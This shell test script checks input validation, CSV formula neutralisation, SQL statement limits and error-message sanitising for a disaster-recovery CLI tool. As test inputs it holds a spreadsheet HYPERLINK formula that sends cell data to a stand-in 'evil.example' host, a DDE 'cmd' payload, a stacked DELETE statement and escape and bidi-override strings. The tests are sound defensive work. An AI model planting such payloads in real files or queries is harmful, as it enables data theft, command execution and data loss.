#!/bin/sh
# Text in and out: one validation for free text (the command line and import),
# one CSV writer with formula neutralisation, every error message made printable,
# and the messages and exit codes of db query, --window and --output.
. "$SRCDIR/tests/lib.sh"

d() { "$DRTOP" "$@" >/dev/null || echo "Bail out! drtop $*"; }
d system add a --rto 1h --rpo 1h
d schedule add a nightly --every 1d

# --- free text: valid UTF-8, no controls or bidi overrides, a length limit ---
fails "owner that is not UTF-8" 65 "owner is not valid UTF-8" system add x --rto 1h --rpo 1h --owner "$(printf 'M\374ller')"
fails "a UTF-16 surrogate (ED A0 80)" 65 "owner is not valid UTF-8" system add x --rto 1h --rpo 1h --owner "$(printf '\355\240\200')"
fails "an overlong form (C0 AF)" 65 "description is not valid UTF-8" system add x --rto 1h --rpo 1h --description "$(printf '\300\257')"
fails "a C1 control (U+009B)" 65 "owner contains a control character" system add x --rto 1h --rpo 1h --owner "$(printf '\302\23331m')"
fails "a bidi override (U+202E)" 65 "description contains a bidirectional control character" system add x --rto 1h --rpo 1h --description "$(printf 'abc\342\200\256def')"
fails "a bidi isolate (U+2066)" 65 "notes contains a bidirectional control character" drill add a --kind restore --started -1h --recovered now --notes "$(printf '\342\201\246x')"
fails "a note that is not UTF-8" 65 "note is not valid UTF-8" checkin a --note "$(printf '\377')"
fails "a reason with a C1 control" 65 "reason contains a control character" maintenance add a --from now --to +1h --reason "$(printf '\302\235')"
long=$(head -c 4097 /dev/zero | tr '\0' x)
fails "free text longer than 4096 bytes" 65 "owner is longer than 4096 bytes" system add x --rto 1h --rpo 1h --owner "$long"
succeeds "4096 bytes of text, accents and emoji are fine" system add y --rto 1h --rpo 1h --owner "$(head -c 4096 /dev/zero | tr '\0' x)" --description "Müller ✓ 😀 עברית"

# --- import: the same checks, NUL, duplicate keys and items ------------------
bad() { printf '%s' "$2" >"$T/bad.json"; fails "$1" 65 "$3" import "$T/bad.json"; }
bad "import: \\u0000 in a name is refused, not cut" '{"drtop":1,"systems":[{"name":"ab\u0000cd","rto":"1h","rpo":"1h","owner":"x\u0000y"}]}' "bad.json: \$.systems[0].name: contains a NUL character"
bad "import: \\u0000 in an owner" '{"drtop":1,"systems":[{"name":"ab","rto":"1h","rpo":"1h","owner":"x\u0000y"}]}' "\$.systems[0].owner: contains a NUL character"
bad "import: a lone surrogate" '{"systems":[{"name":"s","rto":"1h","rpo":"1h","owner":"\ud800"}]}' "\$.systems[0]: owner is not valid UTF-8"
bad "import: a bidi override" '{"systems":[{"name":"s","rto":"1h","rpo":"1h","description":"a\u202eb"}]}' "\$.systems[0]: description contains a bidirectional control character"
printf '{"systems":[{"name":"s","rto":"1h","rpo":"1h","owner":"%s"}]}' "$long" >"$T/bad.json"
fails "import: a 4097-byte owner" 65 "\$.systems[0]: owner is longer than 4096 bytes" import "$T/bad.json"
bad "import: a duplicate key is called a duplicate" '{"systems":[{"name":"a","name":"b","rto":"1h","rpo":"1h"}]}' "\$.systems[0]: duplicate key \"name\""
bad "import: the same endpoint twice in a system" '{"systems":[{"name":"a","rto":"1h","rpo":"1h","endpoints":[{"url":"http://x/","interval":"1m"},{"url":"http://x/","interval":"2m"}]}]}' "\$.systems[0].endpoints[1]: health endpoint http://x/ appears twice (also \$.systems[0].endpoints[0])"
bad "import: the same schedule twice in a system" '{"systems":[{"name":"a","rto":"1h","rpo":"1h","schedules":[{"name":"n","every":"1h"},{"name":"n","every":"2h"}]}]}' "\$.systems[0].schedules[1].name: schedule 'n' appears twice (also \$.systems[0].schedules[0])"
printf '%s' '{"systems":[{"name":"a","rto":"1h","rpo":"1h","endpoints":[{"url":"http://x/"},{"url":"http://x/","kind":"freshness"}]}]}' >"$T/ok.json"
succeeds "import: one URL as health and as freshness is two endpoints" import "$T/ok.json"

# --- one CSV writer, formulas neutralised everywhere --------------------------
d system add evil --rto 1h --rpo 1h --owner '=HYPERLINK("http://evil.example/?x="&A1,"click")' --description "+cmd|' /C calc'!A0"
d drill add a --kind restore --started -2h --recovered -1h --notes '@SUM(A1:A9)'
d maintenance add evil --from now --to +1h --reason '-2+3'
succeeds "system list as csv" system list --format csv
ok "formula cells get a leading apostrophe" sh -c "grep -qF '\"'\''=HYPERLINK(\"\"http' '$T/out' && grep -qF '\"'\''+cmd|' '$T/out'"
ok "no cell starts with a formula character" sh -c "! grep -qE '(^|,)[=+@-]' '$T/out'"
succeeds "drill list as csv" drill list --format csv
ok "drill notes neutralised" out_has "\"'@SUM(A1:A9)\""
succeeds "maintenance list as csv" maintenance list --format csv
ok "maintenance reason neutralised" out_has "\"'-2+3\""
succeeds "db query as csv" db query --format csv "SELECT owner, -5 AS n FROM system WHERE name = 'evil'"
ok "text neutralised, a negative number left a number" out_has "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",-5"
run report --format csv --system evil --window 1d
ok "the report uses the same writer" out_has ",\"'=HYPERLINK("

# --- every error message through the printable filter ------------------------
run report --system "$(printf '\033[31mX')"
ok "report's error path (exit 3) prints no raw escape" sh -c "[ $rc -eq 3 ] && grep -qF \"unknown system '?[31mX'\" '$T/err' && ! grep -q \"$(printf '\033')\" '$T/err'"

# --- text written by another SQLite client, from before these checks --------
sql "UPDATE system SET owner = CAST(X'4dfc6c6c6572' AS TEXT), description = 'a' || char(8238) || 'b' || char(155) WHERE name = 'a'"
succeeds "system list as json with a stored owner that is not UTF-8" system list --format json
ok "is still valid JSON (U+FFFD for the bad byte, escapes for the controls)" sh -c "python3 -c 'import json,sys; d=json.load(open(sys.argv[1], encoding=\"utf-8\")); assert d[0][\"owner\"] == \"M\\ufffdller\" and d[0][\"description\"] == \"a\\u202eb\\x9b\"' '$T/out'"
succeeds "export with that owner" export
ok "is valid JSON too" sh -c "python3 -c 'import json,sys; d=json.load(open(sys.argv[1], encoding=\"utf-8\")); assert d[\"systems\"][0][\"owner\"] == \"M\\ufffdller\"' '$T/out'"
succeeds "a table of them" db query --format table "SELECT owner, description FROM system WHERE name = 'a'"
ok "shows '?' for the bad byte, the bidi override and the C1 control" sh -c "grep -q 'M?ller  a?b?\$' '$T/out'"
sql "UPDATE system SET owner = '', description = '' WHERE name = 'a'"

# --- messages and exit codes --------------------------------------------------
fails "report --window 0 names the option and the rule" 64 "drtop: --window: duration '0' must be greater than zero" report --window 0
fails "report --window -1h" 64 "--window: " report --window -1h
fails "report --window 1x" 64 "--window: " report --window 1x
fails "db query: an SQL error is bad data" 65 "no such table: nowhere" db query 'SELECT nope FROM nowhere'
fails "db query: empty SQL" 64 "drtop db query: empty SQL" db query ''
fails "db query: only a comment is empty too" 64 "empty SQL" db query '  -- nothing'
# URLs follow the free-text rule too (valid UTF-8, no controls or bidi overrides).
fails "a URL that is not UTF-8" 65 "malformed URL: it is not valid UTF-8" endpoint add a "$(printf 'http://127.0.0.1:1/M\374ller')"
fails "a URL with a bidi override (U+202E)" 65 "malformed URL: it contains a bidirectional control character" endpoint add a "$(printf 'http://127.0.0.1:1/a\342\200\256b')"
printf '{"drtop":1,"systems":[{"name":"a","rto":"1h","rpo":"1h","endpoints":[{"url":"http://127.0.0.1:1/a\\u202eb"}]}]}' >"$T/bidi.json"
fails "import refuses a URL with a bidi override" 65 "malformed URL: it contains a bidirectional control character" import "$T/bidi.json"
fails "db query: a second statement is refused, not skipped" 64 "one statement only" db query 'SELECT 1; DELETE FROM system'
ok "the second statement did not run" test "$(sql 'SELECT count(*) FROM system')" -gt 0
succeeds "db query: a trailing semicolon and comment are fine" db query 'SELECT 1; -- done'
# One "drtop" prefix on a message that already names its command.
fails "an unknown option, named once" 64 "drtop status: unknown option" status --bogus
ok "with one prefix" sh -c "! grep -q 'drtop: drtop' '$T/err'"
fails "an unknown command, named once" 64 "drtop: unknown command 'bogus'" bogus
ok "with one prefix" sh -c "! grep -q 'drtop: drtop' '$T/err'"
fails "an SQL error in db query, named once" 65 "drtop db query: database: no such table" db query 'SELECT nope FROM nowhere'
ok "with one prefix" sh -c "! grep -q 'drtop: drtop' '$T/err'"
fails "db query: load_extension is not authorized" 65 "not authorized" db query "SELECT load_extension('x')"
mkdir "$T/dir"
fails "export --output on a directory" 73 "cannot write $T/dir: it is a directory" export --output "$T/dir"
fails "report --output on a directory (a plugin's 3)" 3 "it is a directory" report --output "$T/dir"

# --- report --output permissions (node_exporter reads it as another user) ----
umask 022
run report --format prometheus --output "$T/x.prom"
ok "report --output honours the umask (022: 644)" test "$(stat -c %a "$T/x.prom")" = 644
umask 077
run report --format prometheus --output "$T/y.prom"
ok "report --output honours the umask (077: 600)" test "$(stat -c %a "$T/y.prom")" = 600
run report --format prometheus --output "$T/z.prom" --mode 640
ok "--mode sets the permissions" test "$(stat -c %a "$T/z.prom")" = 640
fails "--mode must be octal" 64 "--mode: expected an octal file mode such as 644, not '9'" report --output "$T/w.prom" --mode 9
fails "--mode above 0777" 64 "--mode: expected an octal file mode" report --output "$T/w.prom" --mode 1777
umask 022
succeeds "export --output honours the umask too" export --output "$T/inv.json"
ok "export file is 644 under umask 022" test "$(stat -c %a "$T/inv.json")" = 644

done_testing
